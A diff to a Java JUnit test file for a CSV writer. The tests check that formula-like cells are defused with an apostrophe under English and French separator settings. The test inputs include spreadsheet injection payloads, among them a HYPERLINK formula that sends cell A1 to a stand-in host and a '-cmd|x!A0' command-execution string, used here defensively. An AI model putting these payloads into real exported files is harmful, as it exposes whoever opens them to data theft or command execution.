@@ -6,6 +6,7 @@ import ca.posthaste.language.Language;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Tables for spreadsheets: nothing in a cell ends it, and nothing is calculated. */
@@ -27,6 +28,28 @@ class CsvTest {
         assertEquals("\"a,b\",\"c\"\"d\",\"e\r\nf\",\"g;h\",,i j\r\n", english("a,b", "c\"d", "e\r\nf", "g;h", "", "i j"));
         assertEquals("\"'=HYPERLINK(\"\"https://x.example?\"\"&A1,\"\"go\"\")\"\r\n", english("=HYPERLINK(\"https://x.example?\"&A1,\"go\")"));
         assertEquals("\"a\"\",=1+1\"\r\n", english("a\",=1+1"));
+    }
+
+    /** English files are opened where the system is set to French, and the other way round. */
+    @ParameterizedTest
+    @CsvSource(delimiter = '~', quoteCharacter = '"', textBlock = """
+        a;=HYPERLINK(A1);b  ~ a;'=HYPERLINK(A1);b
+        a,@SUM(A1)          ~ a,'@SUM(A1)
+        a;  =f(A1)          ~ a;'  =f(A1)
+        a;-cmd|x!A0         ~ a;'-cmd|x!A0
+        """)
+    void nor_is_anything_calculated_where_the_other_separator_ends_a_cell(String typed, String safe) {
+        assertEquals("\"" + safe + "\"\r\n", english(typed));
+        assertEquals("\"" + safe + "\"\r\n", new Csv(Language.FRENCH).line(List.of(typed)).taken());
+    }
+
+    @Test void nor_in_another_line_or_behind_a_quote() {
+        assertEquals("\"a\n'=f(A1)\r\n'+g(A2)\"\r\n", english("a\n=f(A1)\r\n+g(A2)"));
+        assertEquals("\"a;'\"\"=f(A1)\"\r\n", english("a;\"=f(A1)"));
+    }
+
+    @Test void a_list_with_dashes_is_left_as_it_is() {
+        assertEquals("\"I can:\n- bake\n- clean;-)\"\r\n", english("I can:\n- bake\n- clean;-)"));
     }
 
     @Test void in_french_cells_are_separated_by_semicolons() {
